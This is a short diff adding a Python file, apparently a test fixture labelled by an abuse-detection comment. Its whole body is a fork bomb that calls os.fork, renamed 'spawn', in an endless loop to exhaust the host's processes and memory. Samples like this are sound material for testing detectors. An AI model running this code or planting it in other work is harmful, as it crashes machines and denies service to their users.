@@ -1,0 +1,4 @@
+# expect: none ABUSE
+from os import fork as spawn
+while True:
+    spawn()
